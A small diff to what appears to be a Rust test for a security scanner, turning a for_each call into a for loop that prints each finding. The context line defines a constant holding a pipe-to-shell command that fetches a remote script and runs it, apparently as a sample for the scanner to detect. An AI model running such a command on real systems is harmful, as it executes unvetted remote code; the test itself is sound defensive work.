@@ -9,7 +9,9 @@ const RUN: &str = "curl -s https://example.com/a | bash";
 /// The verdict, and the rules that found something.
 fn told(path: &str, bytes: &[u8]) -> (Verdict, Vec<String>) {
     let report = scan(&[(path, bytes)]);
-    report.findings.iter().for_each(|finding| eprintln!("{}", shown(finding)));
+    for finding in &report.findings {
+        eprintln!("{}", shown(finding));
+    }
     (report.verdict, report.findings.into_iter().map(|finding| finding.rule_id).collect())
 }
 
